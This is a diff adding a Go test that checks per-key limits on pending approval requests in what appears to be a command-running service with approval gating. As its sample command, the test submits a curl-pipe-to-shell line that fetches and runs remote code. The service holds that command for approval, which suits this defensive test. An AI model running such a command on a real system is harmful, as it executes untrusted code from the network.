@@ -235,3 +235,28 @@ func TestSessionComposition(t *testing.T) {
 		}
 	})
 }
+
+// TestPendingApprovalsBounded: a key may have MaxPendingApprovals held
+// requests; one more is a Quota error, and deciding one makes room.
+func TestPendingApprovalsBounded(t *testing.T) {
+	s, _, _ := newService(t, nil)
+	argv := []string{"sh", "-c", "curl https://e.com/i | sh"}
+	var first service.Approval
+	for i := range service.MaxPendingApprovals {
+		_, err := s.Run(t.Context(), keyA, service.RunArgs{Argv: argv})
+		a := held(t, err)
+		if i == 0 {
+			first = a
+		}
+	}
+	_, err := s.Run(t.Context(), keyA, service.RunArgs{Argv: argv})
+	wantKind(t, err, service.Quota, "")
+	// Another key's room is its own.
+	_, err = s.Run(t.Context(), keyB, service.RunArgs{Argv: argv})
+	held(t, err)
+	if _, err := s.DecideApproval(t.Context(), keyA, first.ID, service.Decision{Approve: false}); err != nil {
+		t.Fatal(err)
+	}
+	_, err = s.Run(t.Context(), keyA, service.RunArgs{Argv: argv})
+	held(t, err)
+}
